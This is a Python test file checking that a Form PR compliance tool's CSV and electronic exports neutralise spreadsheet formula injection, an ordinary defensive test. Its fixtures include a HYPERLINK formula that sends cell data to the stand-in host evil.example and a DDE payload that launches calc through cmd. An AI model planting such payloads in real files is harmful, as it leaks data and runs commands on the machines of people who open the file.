"""Form PR CSV and electronic exports are safe to open in a spreadsheet (issue 19): a lease name, remark or
purchaser a spreadsheet would run as a formula is written with a leading quote; volumes stay numbers."""

from __future__ import annotations

import csv
import io

from wellflow_compliance.adapters import exports

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def _payload() -> dict:
    line = {
        "rrc_district": "08",
        "identifier_kind": "lease_number",
        "identifier": "12345",
        "lease_name": HOSTILE,
        "lease_type": "oil",
        "liquid_product": "oil",
        "beginning_stock": -3,
        "liquid_production": 1200,
        "liquid_dispositions": [{"code": "01", "volume": 1150, "authority": None}],
        "liquid_disposed": 1150,
        "ending_stock": 47,
        "gas_product": "casinghead_gas",
        "gas_production": 1500,
        "gas_dispositions": [{"code": "02", "volume": 1500, "authority": None}],
        "gas_disposed": 1500,
        "remarks": ["@SUM(1+1)*cmd|' /C calc'!A0"],
        "api_number": None,
        "purchasers": [{"product": "oil", "role": "purchaser", "name": "+Crude Co", "p5_number": "123456"}],
    }
    return {
        "format": "wellflow.form-pr.v1",
        "notice": "WellFlow's own layout",
        "period": "2026-07",
        "operator": {"rrc_operator_number": "654321"},
        "lines": [line],
    }


def test_the_csv_export_neutralizes_formulas_and_keeps_numbers():
    _, *rest = exports.to_csv(_payload()).decode().splitlines()
    [row] = list(csv.DictReader(io.StringIO("\n".join(rest))))
    assert row["lease_name"] == "'" + HOSTILE
    assert row["remarks"].startswith("'@SUM")
    assert row["beginning_stock_bbl"] == "-3" and row["liquid_production_bbl"] == "1200"
    assert row["purchasers"].startswith("oil purchaser +Crude Co")  # not at the start of the cell: harmless


def test_the_electronic_export_neutralizes_formulas_and_keeps_numbers():
    records = list(csv.reader(io.StringIO(exports.to_electronic(_payload()).decode()), delimiter="|"))
    [line] = [record for record in records if record[0] == "L"]
    assert line[4] == "'" + HOSTILE
    assert line[6] == "-3"
    assert line[11].startswith("'@SUM")
    [purchaser] = [record for record in records if record[0] == "P"]
    assert purchaser[3] == "'+Crude Co"
